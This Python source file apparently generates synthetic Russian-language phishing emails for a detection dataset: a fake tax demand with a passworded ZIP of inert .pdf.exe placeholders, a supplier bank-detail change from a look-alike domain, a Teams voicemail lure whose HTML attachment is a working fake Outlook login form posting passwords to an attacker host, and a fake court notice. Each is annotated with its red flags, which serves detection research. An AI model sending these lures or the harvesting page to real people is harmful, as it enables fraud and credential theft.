"""attack/37-40: Russian-language attacks."""
from . import archive, company, docs, ids, mime, shared, systems
from .core import local, Part, rstr, HEXL, HEXU, ALNUM, guid
from .h import S, setup, meta, urls, pdf_meta
from .registry import message

E = company.ENT['RU']
INN = E['tax'][0][1]


@message('attack', 37, 'ru', 'fns-trebovanie-zip-parol')
def a37(m):
    dv = S('dmitry.volkov')
    sent = local('Europe/Moscow', 2026, 11, 24, 10, 31, 18)
    setup(m, ('ФНС России', 'uvedomlenie@nalog-trebovanie.ru'), [('', dv['addr'])],
          'Требование о представлении пояснений N 12-07/48217 от 24.11.2026', sent, zone='Europe/Moscow')
    m.hcharset, m.henc = 'koi8-r', 'B'
    m.msgid = '%s.%s@nalog-trebovanie.ru' % (rstr(m.rng, '0123456789', 14), rstr(m.rng, HEXL, 8))
    pwd = '2411'
    text = ('Уважаемый налогоплательщик!\n\n'
            'Межрайонная инспекция ФНС России N 15 по Санкт-Петербургу в рамках камеральной налоговой проверки налоговой '
            'декларации по НДС за 3 квартал 2026 года направляет в адрес ООО "Экзампл Груп Рус" (ИНН %s) требование о '
            'представлении пояснений N 12-07/48217.\n\n'
            'В соответствии с п. 3 ст. 88 НК РФ пояснения необходимо представить в течение пяти рабочих дней. Непредставление '
            'пояснений влечет ответственность по ст. 129.1 НК РФ и может служить основанием для приостановления операций по счетам.\n\n'
            'Требование и перечень расхождений находятся во вложенном архиве. В целях защиты персональных данных архив защищен паролем.\n\n'
            'Пароль к архиву: %s\n\n'
            'Данное сообщение сформировано автоматически, отвечать на него не требуется.\n\n'
            'Межрайонная ИФНС России N 15 по Санкт-Петербургу\n' % (INN, pwd))
    inert = ('Inert evaluation placeholder. In the real campaign this is a Windows executable with a PDF icon (double extension '
             '.pdf.exe), a remote-access trojan. This file contains no code.\r\n').encode('utf-8')
    z = archive.make_zip([('Требование_№12-07-48217.pdf.exe', inert, (2026, 11, 24, 9, 40, 12)),
                          ('Перечень_расхождений_НДС_3кв2026.pdf.exe', inert, (2026, 11, 24, 9, 40, 12))],
                         password=pwd.encode(), rng=m.rng)
    fn = 'Требование_12-07-48217.zip'
    m.zip_passwords[fn] = pwd.encode()
    m.body = mime.mixed(m, 'mutt', [mime.text(text, 'koi8-r', '8bit', quoted=False),
                                    Part('application/zip', body=z, cte='base64', filename=fn, disposition='attachment', fname_enc='rfc2047')])
    systems.direct(m, 'mail.nalog-trebovanie.ru', '198.51.100.191', rdns='mail.nalog-trebovanie.ru', spf='pass',
                   x_mailer='The Bat! (v10.2.4) Professional', lang='ru')
    m.fact('Other', 'ZIP password given in the body: `%s`; archive contains `Требование_№12-07-48217.pdf.exe`, '
                    '`Перечень_расхождений_НДС_3кв2026.pdf.exe` (inert placeholders)' % pwd)
    meta(m, 'Malware loader themed on the Federal Tax Service: a "request for explanations" after a VAT audit, with a '
            'password-protected ZIP containing .pdf.exe files; password in the body.',
         'The FNS sends requirements through the EDI operator / taxpayer account, never as e-mail attachments from a .ru look-alike '
         'domain; encrypted archive defeats scanning, double extensions, threat of frozen accounts. koi8-r plain text as from a legacy '
         'mailer. Genuine EDI notification: business/38.')


@message('attack', 38, 'ru', 'severny-les-lookalike-smena-rekvizitov')
def a38(m):
    dv = S('dmitry.volkov')
    fake = 'sever-les.ru'
    sent = local('Europe/Moscow', 2026, 11, 27, 11, 52, 6)
    setup(m, ('Ирина Кузнецова', 'i.kuznetsova@' + fake), [(company.NATIVE[dv['addr']], dv['addr'])],
          'Изменение банковских реквизитов ООО «Северный лес»', sent, zone='Europe/Moscow')
    m.msgid = '%d%d@mail.yandex.ru' % (m.rng.randint(10 ** 5, 10 ** 6), m.rng.randint(10 ** 9, 10 ** 10))
    S_ = company.SEVL
    bik = '044525974'
    acc = ids.ru_account(bik, '40702810010000418263')
    corr = ids.ru_corr_account(bik)
    text = ('Добрый день, Дмитрий!\n\n'
            'Сообщаем, что с 01.12.2026 ООО «Северный лес» переводит расчётное обслуживание в АО «ТБанк». Счёт в ПАО Сбербанк будет '
            'закрыт, поступления на него после 30.11 возвращаются отправителю.\n\n'
            'Просим оплату по счёту № 418 от 20.11.2026 и все последующие платежи производить по новым реквизитам:\n\n'
            'Получатель: ООО «Северный лес»\nИНН/КПП: %s/%s\nР/с: %s\nБанк: АО «ТБанк», г. Москва\nБИК: %s\nК/с: %s\n\n'
            'Официальное письмо за подписью генерального директора во вложении. Просьба подтвердить получение и внести изменения в '
            'карточку контрагента.\n\n'
            'С уважением,\nИрина Кузнецова\nГлавный бухгалтер\nООО «Северный лес»\nтел. +7 8142 59-27-44\n' % (S_['inn'], S_['kpp'], acc, bik, corr))
    pdfb, _ = docs.letter('dejavu', pdf_meta(m, sent, 'Письмо о смене реквизитов', 'Кузнецова И.А.',
                                             'Microsoft® Word для Microsoft 365', 'Microsoft® Word для Microsoft 365'),
                          ('ООО «Северный лес»', ['185031, г. Петрозаводск, ул. Заводская, д. 4', 'ИНН %s / КПП %s' % (S_['inn'], S_['kpp']),
                                                   'ОГРН %s' % S_['ogrn']]),
                          ['Генеральному директору', 'ООО «Экзампл Груп Рус»', '196084, г. Санкт-Петербург,', 'ул. Заставская, д. 22, лит. А'],
                          'Исх. № 311 от 27.11.2026', 'Об изменении банковских реквизитов',
                          'Уважаемые партнёры!\n\nНастоящим уведомляем, что с 01 декабря 2026 года изменяются банковские реквизиты '
                          'ООО «Северный лес». Просим производить все платежи по следующим реквизитам:\n\n**Р/с %s**\n**в АО «ТБанк», '
                          'БИК %s**\n**К/с %s**\n\nПлатежи, направленные по прежним реквизитам, не будут зачислены.' % (acc, bik, corr),
                          'С уважением,', [('Лебедев А.В.', 'Генеральный директор'), ('Кузнецова И.А.', 'Главный бухгалтер')],
                          ['ООО «Северный лес» · 185031, Республика Карелия, г. Петрозаводск, ул. Заводская, д. 4'],
                          accent=(20, 90, 50), stamp=('ООО «СЕВЕРНЫЙ ЛЕС»', 'ПЕТРОЗАВОДСК · ОГРН ' + S_['ogrn']))
    m.body = mime.mixed(m, 'yandex', [mime.text(text, 'utf-8', 'base64'),
                                      Part('application/pdf', body=pdfb, cte='base64', filename='Письмо_о_смене_реквизитов.pdf',
                                           disposition='attachment', fname_enc='rfc2047')])
    systems.yandex(m, web=True)
    m.fact('Other', 'Russian bank details: р/с `%s`, БИК `%s`, к/с `%s` (key digits valid)' % (acc, bik, corr))
    meta(m, 'Supplier bank-detail change from a look-alike domain: the "chief accountant" of timber supplier Severny Les announces a '
            'move to another bank from 1 December and asks to pay invoice no. 418 to the new account; signed and stamped PDF.',
         'sever-les.ru (hyphen) imitates severles.ru, both on Yandex 360 so headers look alike; "payments to the old account are '
         'returned", request to update the counterparty card. Real supplier invoice with the registered Sberbank account: business/37.')


@message('attack', 39, 'ru', 'golosovaya-pochta-owa-html')
def a39(m):
    os_ = S('olga.smirnova')
    sent = local('Europe/Moscow', 2026, 10, 13, 8, 4, 51)
    setup(m, ('Microsoft Teams', 'no-reply@teams-voicemail-service.com'), [('', os_['addr'])],
          'Новое голосовое сообщение от +7 (921) 408-17-53 (00:42)', sent, zone='Europe/Moscow')
    m.msgid = '%s@teams-voicemail-service.com' % guid(m.rng)
    action = 'https://owa-examplegroup.eu-login.cloud/owa/auth/owaauth.dll'
    text = ('Вам пришло новое голосовое сообщение.\n\nОт: +7 (921) 408-17-53\nДлительность: 00:42\nПолучено: 13.10.2026 08:03\n\n'
            'Для прослушивания откройте вложение VM_Play_00042.html и войдите под учётной записью examplegroup.eu.\n\n'
            'Microsoft Teams – голосовая почта\n')
    page = ('<!DOCTYPE html>\n<html lang="ru"><head><meta charset="utf-8"><title>Outlook</title><style>body{font-family:Segoe UI,Arial;'
            'background:#0072c6;margin:0}.c{width:380px;margin:110px auto;background:#fff;padding:36px}input{width:100%%;margin:8px 0;'
            'padding:7px;border:1px solid #999}button{background:#0072c6;color:#fff;border:0;padding:8px 26px}</style></head><body>'
            '<div class="c"><div style="font-size:28px;color:#0072c6">Outlook</div><p>Голосовое сообщение (00:42) от +7 (921) 408-17-53</p>'
            '<p>Для воспроизведения подтвердите учётную запись.</p><form method="post" action="%s">'
            '<input type="text" name="username" value="olga.smirnova@examplegroup.eu"><input type="password" name="password" '
            'placeholder="Пароль"><input type="hidden" name="flags" value="4"><button type="submit">Вход</button></form>'
            '<p style="font-size:11px;color:#666">© 2026 Microsoft</p></div></body></html>\n' % action)
    m.body = mime.mixed(m, 'java', [mime.text(text, 'utf-8', 'quoted-printable'),
                                    Part('text/html', body=page, charset='utf-8', cte='base64', filename='VM_Play_00042.html',
                                         disposition='attachment')])
    systems.direct(m, 'mx.teams-voicemail-service.com', '203.0.113.211', rdns='mx.teams-voicemail-service.com', spf='pass', lang='ru')
    urls(m, action)
    m.fact('Phone', '+7 (921) 408-17-53')
    meta(m, 'Voicemail lure: "Microsoft Teams" delivers a 42-second voice message; the HTML attachment is a fake Outlook Web App '
            'sign-in page pre-filled with the user\'s address that posts the password to the attacker.',
         'Teams voicemail does not arrive as an HTML file from teams-voicemail-service.com; the form posts to eu-login.cloud; sent '
         'directly from a rented server. The company\'s genuine password-expiry notice: business/39.')


@message('attack', 40, 'ru', 'arbitrazh-isk-yandex-disk')
def a40(m):
    os_ = S('olga.smirnova')
    sent = local('Europe/Moscow', 2026, 12, 14, 15, 22, 36)
    setup(m, ('Арбитражный суд г. Санкт-Петербурга и Ленинградской области', 'arbitr.spb.uvedomlenie@mail.ru'), [('', os_['addr'])],
          'Исковое заявление по делу № А56-118472/2026 – определение о принятии к производству', sent, zone='Europe/Moscow')
    m.hcharset, m.henc = 'windows-1251', 'B'
    m.msgid = '%d.%s@f%d.i.mail.ru' % (m.rng.randint(10 ** 12, 10 ** 13), rstr(m.rng, HEXL, 10), m.rng.randint(100, 499))
    link = 'https://disk.yandex.ru/d/7Qx2k9LmP4aBcD'
    text = ('Уважаемые участники процесса!\n\n'
            'Арбитражный суд города Санкт-Петербурга и Ленинградской области уведомляет, что исковое заявление ООО «СтройЛесИнвест» к '
            'ООО «Экзампл Груп Рус» о взыскании задолженности по договору поставки в размере 2 418 600 руб. принято к производству '
            '(дело № А56-118472/2026).\n\n'
            'Предварительное судебное заседание назначено на 22.12.2026 в 11:30, зал 3008.\n\n'
            'Копия искового заявления, определение суда и приложения размещены по ссылке (архив, 14 МБ):\n%s\n\n'
            'Ответчику предлагается представить отзыв на исковое заявление не позднее 18.12.2026.\n\n'
            'Помощник судьи Е.В. Соколова\nтел. +7 (812) 643-48-12\n' % link)
    html = ('<div>' + ''.join('<p>%s</p>' % mime.esc(p).replace('\n', '<br>') for p in text.strip().split('\n\n')).replace(
        mime.esc(link), '<a href="%s" target="_blank">%s</a>' % (link, link)) + '</div>')
    m.body = mime.alt(m, 'mailru', mime.text(text, 'windows-1251', 'quoted-printable'), mime.html(html, 'windows-1251', 'quoted-printable'))
    systems.mailru(m, client_ip='198.51.100.58')
    urls(m, link)
    m.fact('Phone', '+7 (812) 643-48-12')
    meta(m, 'Fake arbitration-court notice: a lawsuit of 2.4 million roubles has been accepted, hearing on 22 December, "statement of '
            'claim and court ruling" in a Yandex Disk archive (malware download).',
         'Courts notify through kad.arbitr.ru and registered post, not from a free mail.ru mailbox; an invented claimant; legitimate '
         'cloud storage hides the payload from URL reputation; fear and a short deadline.')
